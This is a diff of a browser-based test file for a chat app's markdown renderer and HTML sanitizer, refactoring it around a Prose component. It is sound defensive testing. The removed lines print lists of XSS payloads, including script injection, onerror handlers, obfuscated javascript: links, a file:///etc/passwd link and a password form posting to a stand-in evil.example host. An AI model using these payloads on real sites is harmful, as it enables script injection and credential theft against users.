@@ -1,15 +1,12 @@
-/** DOMPurify needs a real DOM, so these run in a browser: all in one, started by the one test. */
+/** What stands in a page of the texts of strangers: all in one browser, started by the one test. */
 import { assert, assertEquals } from "@std/assert";
 import { fromFileUrl } from "@std/path";
 import fc from "fast-check";
 import type { Page } from "playwright-core";
+import client from "../../client/deno.json" with { type: "json" };
 import { lacksChromium, launchChromium } from "../support/chromium.ts";
+import { allowed, attacks, badLinks, pieces } from "./hostile_texts.ts";
 
-const allowedTags =
-  "p br hr strong em del code pre blockquote ul ol li a table thead tbody tr th td span"
-    .split(" ");
-const allowedAttributes = "href title rel target start tabindex class".split(" ");
-const allowedClasses = "link-host link-start link-end image-link".split(" ");
 /** The server that the page is from. */
 const origin = "https://parley.test";
 
@@ -23,9 +20,22 @@ interface Finding {
 /** What the page is given, by the module that it is from. */
 const tested = {
   "highlight.ts": "highlight",
-  "markdown.ts": "isEmojiOnly, renderMarkdown, sanitize",
-  "view/mention_marks.ts": "markMentions",
+  "emoji_only.ts": "isEmojiOnly",
+  "sanitize.ts": "sanitize",
+  "view/prose.tsx": "Prose",
 };
+
+/** Runs in the page: the element with a text, in a new place of the page, and what takes it away. */
+const show = `globalThis.show = (text, names = [], you) => {
+  const place = document.createElement("div");
+  document.body.append(place);
+  render(createElement(Prose, { text, names: names.join("\\n"), you }), place);
+  const remove = () => {
+    render(null, place);
+    place.remove();
+  };
+  return { prose: place.firstElementChild, remove };
+};`;
 
 /** Bundles what is {@linkcode tested} and gives its source for a page. */
 async function bundleMarkdown(): Promise<string> {
@@ -37,7 +47,10 @@ async function bundleMarkdown(): Promise<string> {
   const names = Object.values(tested).join();
   await Deno.writeTextFile(
     entry,
-    `${imports.join("\n")}\nObject.assign(globalThis, { ${names} });`,
+    `${imports.join("\n")}
+    import { createElement, render } from "${client.imports.preact}";
+    Object.assign(globalThis, { ${names}, createElement, render });
+    ${show}`,
   );
   const { stdout, stderr, success } = await new Deno.Command(Deno.execPath(), {
     args: ["bundle", "--quiet", "--platform", "browser", "--format", "iife", entry],
@@ -49,28 +62,33 @@ async function bundleMarkdown(): Promise<string> {
 }
 
 function findings(page: Page, texts: readonly string[]): Promise<Finding[]> {
-  return page.evaluate(
-    `(${inspect})(${JSON.stringify(texts)}, ${
-      JSON.stringify({ allowedTags, allowedAttributes, allowedClasses })
-    })`,
-  );
+  return page.evaluate(`(${inspect})(${JSON.stringify(texts)}, ${JSON.stringify(allowed)})`);
 }
 
-/** Runs in the page; `renderMarkdown` is there from {@linkcode bundleMarkdown}. */
-const inspect =
-  `(texts, { allowedTags, allowedAttributes, allowedClasses }) => texts.map((text) => {
-  const place = document.createElement("div");
-  document.body.append(place);
-  place.innerHTML = renderMarkdown(text);
+/**
+ * Runs in the page; `show` is there from {@linkcode bundleMarkdown}. The heads of blocks of code are
+ * ours, so all that may differ in them is the name of a language; they are left out of the rest.
+ */
+const inspect = `(texts, { tags, attributes, classes }) => texts.map((text) => {
+  const { prose: place, remove } = show(text);
   const faults = [];
+  for (const block of place.querySelectorAll(".code-block")) {
+    const [head, pre] = block.children;
+    const [language] = head.children;
+    if (/^(code|[a-z\\d][\\w+#.-]*)$/i.test(language.textContent)) language.textContent = "";
+    const own = '<div class="code-head"><span dir="auto"></span><button type="button">' +
+      '<span aria-live="polite">Copy</span></button></div>';
+    if (block.attributes.length > 1 || head.outerHTML !== own) faults.push(head.outerHTML);
+    block.replaceWith(pre);
+  }
   for (const element of place.querySelectorAll("*")) {
-    if (!allowedTags.includes(element.localName)) faults.push("<" + element.localName + ">");
+    if (!tags.includes(element.localName)) faults.push("<" + element.localName + ">");
     for (const { name } of element.attributes) {
-      if (!allowedAttributes.includes(name)) faults.push(element.localName + "[" + name + "]");
+      if (!attributes.includes(name)) faults.push(element.localName + "[" + name + "]");
     }
     for (const name of element.classList) {
       const isLanguage = element.localName === "code" && /^language-[a-z\\d][\\w+#.-]*$/.test(name);
-      if (!isLanguage && !allowedClasses.includes(name)) faults.push("class " + name);
+      if (!isLanguage && !classes.includes(name)) faults.push("class " + name);
     }
     // Without an address, an anchor is plain text.
     if (element.localName !== "a" || !element.hasAttribute("href")) continue;
@@ -80,31 +98,33 @@ const inspect =
     if (element.target !== (isHere ? "" : "_blank")) faults.push("target " + element.target);
   }
   const finding = { html: place.innerHTML, shown: place.innerText.trim(), faults };
-  place.remove();
+  remove();
   return finding;
 })`;
 
 /** Runs in the page: what is marked in a text, with a `!` behind one's own name. */
 const markedIn = `(text, names, you) => {
-  const place = document.createElement("div");
-  place.innerHTML = markMentions(renderMarkdown(text), { names, you });
-  return [...place.querySelectorAll(".mention")]
+  const { prose, remove } = show(text, names, you);
+  const marked = [...prose.querySelectorAll(".mention")]
     .map((mark) => mark.textContent + (mark.dataset.you ? "!" : ""));
+  remove();
+  return marked;
 }`;
 
 /** Runs in the page: the texts of which more than marks are new once mentions are marked. */
 const changedBy = `(texts, names) => texts.filter((text) => {
-  const [before, after] = [document.createElement("div"), document.createElement("div")];
-  before.innerHTML = renderMarkdown(text);
-  after.innerHTML = markMentions(before.innerHTML, { names });
-  for (const mark of after.querySelectorAll(".mention")) mark.replaceWith(...mark.childNodes);
-  after.normalize();
-  return before.innerHTML !== after.innerHTML;
+  const [before, after] = [show(text), show(text, names)];
+  for (const mark of after.prose.querySelectorAll(".mention")) mark.replaceWith(...mark.childNodes);
+  after.prose.normalize();
+  const isChanged = before.prose.innerHTML !== after.prose.innerHTML;
+  before.prose.parentElement.remove();
+  after.prose.parentElement.remove();
+  return isChanged;
 })`;
 
 /** Runs in the page: what is wrong with codes once they are coloured. */
 const coloured = `(codes, languages) => codes.flatMap((code, index) => {
-  const html = sanitize(highlight(code, languages[index % languages.length]));
+  const html = highlight(code, languages[index % languages.length]);
   const place = document.createElement("pre");
   document.body.append(place);
   place.innerHTML = html;
@@ -118,56 +138,13 @@ const coloured = `(codes, languages) => codes.flatMap((code, index) => {
   return faults.length === 0 && isSame ? [] : [code + " -> " + html];
 })`;
 
-/** Each would do harm as HTML. */
-const attacks = [
-  "<script>globalThis.harmed = 1</script>",
-  "<ScRiPt src=//evil.example></sCrIpT>",
-  "<img src=x onerror='globalThis.harmed = 1'>",
-  "<svg onload=globalThis.harmed=1><use href=data:x></svg>",
-  "<iframe srcdoc='<script>parent.harmed = 1</script>'></iframe>",
-  "<a href=javascript:globalThis.harmed=1>x</a>",
-  "<style>* { display: none }</style>",
-  "<form action=//evil.example><input name=password></form>",
-  "<math><mtext><table><mglyph><style><img src=x onerror=globalThis.harmed=1>",
-  "<b id=x class=y style=color:red>x</b>",
-  "<!-- --!> <img src=x onerror=globalThis.harmed=1> -->",
-  "**<img src=x onerror=globalThis.harmed=1>**",
-  "> <script>globalThis.harmed = 1</script>",
-  "```\n</code></pre><script>globalThis.harmed = 1</script>\n```",
-  "`</code><script>globalThis.harmed = 1</script>`",
-  '```"><script>globalThis.harmed=1</script>\nx\n```',
-  "| <script>globalThis.harmed=1</script> |\n|---|\n| <img src=x onerror=globalThis.harmed=1> |",
-];
-
-/** Each would be a link or a picture that does harm. */
-const badLinks = [
-  "[x](javascript:alert(1))",
-  "[x](JaVaScRiPt:alert(1))",
-  "[x](java\tscript:alert(1))",
-  "[x](<java\nscript:alert(1)>)",
-  "[x](&#106;avascript:alert(1))",
-  "[x](javascript&colon;alert(1))",
-  "[x](\u0001javascript:alert(1))",
-  "[x]( javascript:alert(1))",
-  "[x](vbscript:x)",
-  "[x](data:text/html;base64,PHNjcmlwdD4=)",
-  "[x](file:///etc/passwd)",
-  "[x](//evil.example)",
-  "[x](/logout)",
-  "[x](blob:https://example.org/1)",
-  "<javascript:alert(1)>",
-  "![x](javascript:alert(1))",
-  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
-  '[x](https://example.org/"onmouseover="globalThis.harmed=1)',
-  "[x](https://example.org 'a\" onmouseover=\"globalThis.harmed=1')",
-];
-
 /** Text and what a reader sees of it. */
 const shownAs: readonly (readonly [string, string])[] = [
   ["<b>not bold</b>", "<b>not bold</b>"],
   ["<script>alert(1)</script>", "<script>alert(1)</script>"],
   ["a < b && b > c", "a < b && b > c"],
   ["&lt;b&gt; &amp; &nbsp;", "&lt;b&gt; &amp; &nbsp;"],
+  ["a & b &#60; &#x3c;", "a & b &#60; &#x3c;"],
   ["[x](javascript:alert(1))", "[x](javascript:alert(1))"],
   ["one\ntwo", "one\ntwo"],
   ["[a]: https://example.org", "[a]: https://example.org"],
@@ -182,6 +159,8 @@ const shownAs: readonly (readonly [string, string])[] = [
   ["https://p\u0430ypal.example", "https://p\u0430ypal.example (xn--pypal-4ve.example)"],
   ["![a cat](https://example.org/c.png)", "a cat (Image at example.org)"],
   ["![](https://example.org/c.png)", "Image at example.org"],
+  ["[![a cat](https://example.org/c.png)](https://bad.example/)", "a cat (bad.example)"],
+  ["> ".repeat(300) + "deep", "> ".repeat(300) + "deep"],
 ];
 
 /** Text and what its HTML has to hold. */
@@ -209,8 +188,8 @@ const rendersAs: readonly (readonly [string, string])[] = [
   [`${origin}/other`, 'target="_blank"'],
   ["3. c\n4. d", '<ol start="3">'],
   ["> quoted", "<blockquote>"],
-  ["| a |\n|---|\n| **b** |", '<table tabindex="0"><thead><tr>\n<th>a</th>'],
-  ["| a |\n|---|\n| **b** |", "<tbody><tr>\n<td><strong>b</strong></td>"],
+  ["| a |\n|---|\n| **b** |", '<table tabindex="0"><thead><tr><th>a</th>'],
+  ["| a |\n|---|\n| **b** |", "<tbody><tr><td><strong>b</strong></td>"],
 ];
 
 /** Text that mentions, and what is marked in it of Ada, who reads, and Bob Bee. */
@@ -221,34 +200,6 @@ const mentioning: readonly (readonly [text: string, marked: string[]])[] = [
   ["[@Ada](https://example.org)", []],
   ["@Adam ada@Ada.example @Eve", []],
   ["@Ada\u2019s <b>@Ada</b>", ["@Ada!", "@Ada!"]],
-];
-
-/** Short pieces that, joined at random, make what nobody thought of. */
-const pieces = [
-  ...["<", ">", "</", "/>", '"', "'", "`", "```", "\n", "\n\n", " ", "\t", "\\", "&", "&#", ";"],
-  ...["[", "]", "(", ")", "!", "*", "_", "~~", "|", "|-|", "> ", "- ", "1. ", "# ", ":", "//"],
-  ...[
-    "javascript:",
-    "data:",
-    "https://a.b",
-    "mailto:",
-    "x",
-    "script",
-    "img src=x onerror=y",
-    "svg",
-  ],
-  ...[
-    "style",
-    "title",
-    "textarea",
-    "noscript",
-    "math",
-    "template",
-    "\u0000",
-    "\u202e",
-    "]]>",
-    "<!--",
-  ],
 ];
 
 /** Long texts that could make a parser slow. */
@@ -376,13 +327,12 @@ Deno.test({
           '<span class="hljs-title function_">c</span><p class="hljs-title tip">d</p>';
         assertEquals(
           await page.evaluate(`sanitize(${JSON.stringify(html)})`),
-          '<span>a</span><code class="language-ts">b</code>' +
-            '<span class="hljs-title function_">c</span><p>d</p>',
+          '<span>a</span>b<span class="hljs-title function_">c</span>d',
         );
       });
 
       await t.step("code in colours has parts, and unknown languages have none", async () => {
-        const html = await page.evaluate("sanitize(highlight('let x = 1;', 'ts'))");
+        const html = await page.evaluate("highlight('let x = 1;', 'ts')");
         assert(String(html).includes('<span class="hljs-keyword">let</span>'), String(html));
         assertEquals(await page.evaluate("highlight('let x = 1;', 'no-such')"), undefined);
         assertEquals(await page.evaluate("highlight('Dear all,\\nthank you.')"), undefined);
